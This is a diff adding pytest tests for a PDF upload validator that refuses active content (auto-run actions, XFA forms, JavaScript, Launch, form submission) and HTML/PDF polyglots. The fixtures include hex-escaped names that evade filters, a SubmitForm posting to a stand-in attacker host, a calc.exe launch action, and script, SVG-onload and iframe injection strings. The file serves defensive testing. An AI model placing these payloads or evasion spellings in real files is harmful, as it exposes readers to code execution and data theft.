@@ -98,3 +98,77 @@ def test_a_compression_bomb_in_an_object_stream_is_refused():
     content = zlib.compress(b" " * (65 * 1024 * 1024), 9)
     object_stream = stream(b"/Type /ObjStm /N 1 /First 4 /Filter /FlateDecode", content)
     assert _refusal(pdf(CATALOG, PAGES, PAGE, object_stream)).code == "PDF_TOO_COMPLEX"
+
+
+@pytest.mark.parametrize(
+    ("catalog", "what"),
+    [
+        # any /OpenAction, even one that only shows the first page
+        (b"<< /Type /Catalog /Pages 2 0 R /OpenAction [3 0 R /Fit] >>", "OpenAction"),
+        (b"<< /Type /Catalog /Pages 2 0 R /Open#41ction [3 0 R /Fit] >>", "OpenAction"),
+        (b"<< /Type /Catalog /Pages 2 0 R /#4fpen#41#63tion 4 0 R >>", "OpenAction"),
+        (b"<< /Type /Catalog /Pages 2 0 R /AcroForm << /XFA 4 0 R >> >>", "XFA"),
+        (b"<< /Type /Catalog /Pages 2 0 R /AcroForm << /#58FA 4 0 R >> >>", "XFA"),
+        (b"<< /Type /Catalog /Pages 2 0 R /Names << /EmbeddedFiles 4 0 R >> >>", "EmbeddedFile"),
+    ],
+)
+def test_open_actions_and_forms_are_refused_however_the_name_is_spelt(catalog, what):
+    refused = _refusal(pdf(catalog, PAGES, PAGE, b"<< /Type /Action /S /GoTo /D [3 0 R /Fit] >>"))
+    assert refused.code == "PDF_ACTIVE_CONTENT" and what in refused.message_en
+
+
+@pytest.mark.parametrize(
+    ("action", "what"),
+    [
+        (b"<< /Type /Action /S /SubmitForm /F (https://evil.example/collect) >>", "SubmitForm"),
+        (b"<< /Type /Action /S /Submit#46orm /F (https://evil.example/collect) >>", "SubmitForm"),
+        (b"<< /Type /Annot /Subtype /RichMedia /RichMediaContent 9 0 R >>", "RichMedia"),
+        (b"<< /Type /Action /S /Launch /F (calc.exe) >>", "Launch"),
+        (b"<< /Type /Action /S /JavaScript /JS (app.alert(1)) >>", "JavaScript"),
+    ],
+)
+def test_actions_in_an_object_are_refused(action, what):
+    refused = _refusal(pdf(CATALOG, PAGES, PAGE, action))
+    assert refused.code == "PDF_ACTIVE_CONTENT" and what in refused.message_en
+
+
+@pytest.mark.parametrize(
+    "hidden",
+    [b"<< /OpenAction 9 0 R >>", b"<< /S /Submit#46orm >>", b"<< /XFA [(x) 9 0 R] >>", b"<< /RichMedia 1 >>"],
+)
+def test_names_in_a_compressed_object_stream_are_found(hidden):
+    content = zlib.compress(b"5 0 " + hidden)
+    object_stream = stream(b"/Type /ObjStm /N 1 /First 4 /Filter /FlateDecode", content)
+    assert _refusal(pdf(CATALOG, PAGES, PAGE, object_stream)).code == "PDF_ACTIVE_CONTENT"
+
+
+def test_a_long_name_in_a_compressed_content_stream_is_found():
+    content = stream(b"/Filter /FlateDecode", zlib.compress(b"BT /F1 12 Tf ET /OpenAction"))
+    assert _refusal(pdf(CATALOG, PAGES, PAGE, content)).code == "PDF_ACTIVE_CONTENT"
+
+
+@pytest.mark.parametrize(
+    "markup",
+    [
+        b"<html><body>hi</body></html>",
+        b"<SCRIPT>alert(1)</SCRIPT>",
+        b"<!DOCTYPE html>",
+        b"<iframe src=//evil.example>",
+        b"<svg/onload=alert(1)>",
+        b"<Html\n>",
+    ],
+)
+def test_html_after_the_header_is_refused(markup):
+    # a polyglot: a valid PDF that a sniffing browser would render as a page
+    data = samples.plain_pdf()
+    polyglot = data[:9] + b"%" + markup + b"\n" + data[9:]
+    refused = _refusal(polyglot)
+    assert refused.code == "PDF_HTML" and refused.status == 415
+    # in a comment at the end, and inside a stream's raw bytes, too
+    assert _refusal(data.replace(b"%%EOF", markup + b"\n%%EOF")).code == "PDF_HTML"
+    image = stream(b"/Type /XObject /Subtype /Image /Width 1 /Height 1", b"\x00" + markup + b"\x01")
+    assert _refusal(pdf(CATALOG, PAGES, PAGE, image)).code == "PDF_HTML"
+
+
+def test_words_like_html_in_text_are_fine():
+    check_pdf(pdf(CATALOG, PAGES, PAGE, b"<< /Title (html, scripts and <b> tags) >>"))
